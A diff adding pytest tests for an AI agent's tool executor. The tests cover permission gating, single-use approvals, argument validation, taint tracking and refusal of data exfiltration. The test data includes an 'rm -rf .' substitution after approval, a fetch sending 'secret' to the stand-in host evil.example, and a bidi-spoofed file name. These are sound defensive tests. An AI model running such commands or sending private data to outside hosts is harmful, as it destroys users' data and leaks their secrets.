@@ -1,0 +1,249 @@
+import json
+from dataclasses import replace
+from types import ModuleType
+from typing import Any, TypeVar
+
+import pytest
+
+from cortex.agent.execute import UNKNOWN, Executor
+from cortex.base.errors import ToolFailed
+from cortex.base.messages import ToolCall
+from cortex.base.turn import Answer, Performed
+from cortex.toolkit.context import Ctx
+from cortex.toolkit.decorator import tool
+from cortex.toolkit.registry import Registry, category_of
+from cortex.toolkit.spec import Output
+from tests.plain_book import MEMBER, STANDING, PlainBook, PlainDesk
+from tests.plain_world import TURN
+
+T = TypeVar("T")
+DONE: list[str] = []
+
+
+@tool(risk="low", effect="write")
+async def demo_write(ctx: Ctx, text: str, times: int = 1) -> str:
+    """Write a text down.
+
+    Args:
+        text: What to write.
+        times: How often.
+    """
+    DONE.append(text * times)
+    ctx.leave_undo(target="demo", before=None, expected="1", label="Take it back")
+    return f"Wrote {text}."
+
+
+@tool(risk="high", effect="write", confirm=True, admin=True)
+async def demo_shell(ctx: Ctx, command: str) -> str:
+    """Run a command.
+
+    Args:
+        command: The command.
+    """
+    DONE.append(command)
+    return "ran"
+
+
+@tool(risk="medium", effect="read", reads_untrusted=True, sends_out=True)
+async def demo_fetch(ctx: Ctx, url: str) -> str:
+    """Fetch a page.
+
+    Args:
+        url: The address.
+    """
+    return f"page at {url}"
+
+
+@tool(risk="low", effect="read")
+async def demo_fail(ctx: Ctx) -> Output:
+    """Fail on purpose."""
+    raise ToolFailed("The list is not there; create it first.")
+
+
+@tool(risk="low", effect="read")
+async def demo_crash(ctx: Ctx) -> Output:
+    """Crash on purpose."""
+    raise RuntimeError("boom")
+
+
+@tool(risk="low", effect="read")
+async def demo_long(ctx: Ctx) -> str:
+    """Say a lot."""
+    return "x" * 20_000
+
+
+def demo_registry() -> Registry:
+    module = ModuleType("cortex.tools.demo")
+    made = (demo_write, demo_shell, demo_fetch, demo_fail, demo_crash, demo_long)
+    vars(module).update({item.name: replace(item, category="demo") for item in made}, SUMMARY="Demo tools")
+    return Registry([category_of(module)])
+
+
+class NoScope:
+    def open(self, kind: type[T], user_id: str) -> T:
+        raise KeyError(kind)
+
+
+class Gate:
+    def __init__(self) -> None:
+        self.registry = demo_registry()
+        self.book, self.desk = PlainBook(), PlainDesk()
+        self.book.now(permitted=frozenset(self.registry.tools))
+        self.executor = Executor(
+            registry=self.registry, book=self.book, desk=self.desk, scope=NoScope(), ticks_s=lambda: 0.0
+        )
+
+    async def run(self, name: str, answer: Answer | None = None, wire_id: str = "w1", **arguments: Any) -> Performed:
+        call = ToolCall(id=wire_id, name=name, arguments=json.dumps(arguments))
+        decision = await self.executor.decide(TURN, 1, call)
+        return await self.executor.perform(TURN, 1, call, decision, answer)
+
+
+@pytest.fixture
+def gate() -> Gate:
+    DONE.clear()
+    return Gate()
+
+
+async def test_a_permitted_call_runs_whether_or_not_its_schema_was_sent(gate: Gate) -> None:
+    done = await gate.run("demo_write", text="milk")
+    assert (done.result.text, done.result.is_error, done.found) == ("Wrote milk.", False, ("demo_write",))
+    assert next(iter(gate.book.endings.values())).undo is not None
+
+
+async def test_a_forbidden_tool_answers_exactly_as_an_unknown_one(gate: Gate) -> None:
+    gate.book.now(permitted=frozenset())
+    forbidden = await gate.run("demo_write", text="milk")
+    unknown = await gate.run("demo_wrote", wire_id="w2", text="milk")
+    assert forbidden.result.text.replace("demo_write", "X") == unknown.result.text.replace("demo_wrote", "X")
+    assert DONE == []
+
+
+async def test_a_near_name_gets_one_suggestion(gate: Gate) -> None:
+    done = await gate.run("demo_writ", text="milk")
+    assert done.result.text == "There is no tool named 'demo_writ' here. Did you mean demo_write?"
+
+
+async def test_an_admin_tool_does_not_exist_for_a_member_even_if_the_role_lists_it(gate: Gate) -> None:
+    gate.book.now(user=MEMBER)
+    done = await gate.run("demo_shell", answer="allowed", command="id")
+    assert done.result.text == "There is no tool named 'demo_shell' here."
+    assert DONE == []
+
+
+async def test_wrong_arguments_run_nothing_and_say_what_is_expected(gate: Gate) -> None:
+    done = await gate.run("demo_write", text="milk", colour="red")
+    assert done.result.is_error
+    assert "colour" in done.result.text
+    assert '"times"' in done.result.text
+    assert DONE == []
+
+
+async def test_malformed_json_runs_nothing(gate: Gate) -> None:
+    call = ToolCall(id="w", name="demo_write", arguments='{"text": "mil')
+    decision = await gate.executor.decide(TURN, 1, call)
+    done = await gate.executor.perform(TURN, 1, call, decision, None)
+    assert "not valid JSON" in done.result.text
+    assert DONE == []
+
+
+@pytest.mark.parametrize(("answer", "ran"), [("allowed", ["id"]), ("denied", []), ("expired", []), (None, [])], ids=str)
+async def test_a_high_risk_call_runs_only_after_a_yes(gate: Gate, answer: Answer | None, ran: list[str]) -> None:
+    await gate.run("demo_shell", answer=answer, command="id")
+    assert ran == DONE
+    assert next(iter(gate.desk.pleas.values())).detail == "id"
+
+
+async def test_an_approval_is_used_up_by_one_run(gate: Gate) -> None:
+    call = ToolCall(id="w", name="demo_shell", arguments='{"command":"id"}')
+    decision = await gate.executor.decide(TURN, 1, call)
+    await gate.executor.perform(TURN, 1, call, decision, "allowed")
+    gate.book.endings.clear()
+    again = await gate.executor.perform(TURN, 1, call, decision, "allowed")
+    assert again.result.is_error
+    assert DONE == ["id"]
+
+
+async def test_the_bytes_run_are_the_bytes_approved(gate: Gate) -> None:
+    call = ToolCall(id="w", name="demo_shell", arguments='{"command":"id"}')
+    decision = await gate.executor.decide(TURN, 1, call)
+    other = replace(call, arguments='{"command":"rm -rf ."}')
+    done = await gate.executor.perform(TURN, 1, other, decision, "allowed")
+    assert "changed after the decision" in done.result.text
+    assert DONE == []
+
+
+async def test_rights_taken_away_between_decision_and_act_stop_the_call(gate: Gate) -> None:
+    call = ToolCall(id="w", name="demo_write", arguments='{"text":"milk"}')
+    decision = await gate.executor.decide(TURN, 1, call)
+    gate.book.now(permitted=frozenset())
+    done = await gate.executor.perform(TURN, 1, call, decision, None)
+    assert done.result.is_error
+    assert DONE == []
+
+
+async def test_an_interrupted_write_is_not_tried_again_but_told(gate: Gate) -> None:
+    call = ToolCall(id="w", name="demo_write", arguments='{"text":"milk"}')
+    decision = await gate.executor.decide(TURN, 1, call)
+    gate.book.intents[decision.call_id] = "intended"
+    done = await gate.executor.perform(TURN, 1, call, decision, None)
+    assert done.result.text == UNKNOWN
+    assert DONE == []
+
+
+async def test_medium_risk_asks_only_when_the_turn_is_tainted(gate: Gate) -> None:
+    await gate.run("demo_fetch", url="https://example.org/a")
+    gate.book.now(is_tainted=True, taint_source="what web_read brought")
+    await gate.run("demo_fetch", wire_id="w2", url="https://example.org/b")
+    assert [plea.why for plea in gate.desk.pleas.values()] == ["because this turn read what web_read brought"]
+
+
+@pytest.mark.parametrize(
+    ("hosts", "is_refused"),
+    [(frozenset(), True), (frozenset({"evil.example"}), False), (frozenset({"xevil.example"}), True)],
+    ids=["not typed", "typed by the user", "a longer name typed"],
+)
+async def test_private_data_does_not_leave_on_a_strangers_word(
+    gate: Gate, hosts: frozenset[str], is_refused: bool
+) -> None:
+    gate.book.now(is_tainted=True, has_read_private=True, typed_hosts=hosts)
+    done = await gate.run("demo_fetch", answer="allowed", url="https://evil.example/?q=secret")
+    assert done.result.is_error == is_refused
+
+
+async def test_no_grant_covers_the_refused_case(gate: Gate) -> None:
+    gate.desk.grants.add(("demo_fetch", "evil.example"))
+    gate.book.now(is_tainted=True, has_read_private=True)
+    done = await gate.run("demo_fetch", url="https://evil.example/")
+    assert done.result.text.startswith("Refused")
+
+
+async def test_a_tool_that_fails_says_why_and_one_that_crashes_keeps_the_turn_alive(gate: Gate) -> None:
+    failed = await gate.run("demo_fail")
+    crashed = await gate.run("demo_crash", wire_id="w2")
+    assert failed.result.text == "The list is not there; create it first."
+    assert "failed for a reason of its own" in crashed.result.text
+    assert "boom" not in crashed.result.text
+
+
+async def test_a_long_result_goes_to_a_file_with_a_preview(gate: Gate) -> None:
+    done = await gate.run("demo_long")
+    assert len(done.result.text) < 4_000
+    assert "file_read path='results/x.txt'" in done.result.text
+    assert len(next(iter(gate.book.spilled.values()))) == 20_000
+
+
+async def test_the_card_shows_invisible_and_bidi_characters(gate: Gate) -> None:
+    await gate.run("demo_shell", command="echo \u202egpj.exe\u200b")
+    assert next(iter(gate.desk.pleas.values())).detail == "echo ⟨U+202E⟩gpj.exe⟨U+200B⟩"
+
+
+async def test_the_third_identical_call_is_refused(gate: Gate) -> None:
+    gate.book.standing_now = replace(
+        STANDING,
+        permitted=frozenset(gate.registry.tools),
+        same_calls={'demo_write {"text":"milk","times":1}': 2},
+    )
+    done = await gate.run("demo_write", text="milk")
+    assert "made before in this turn" in done.result.text
+    assert DONE == []
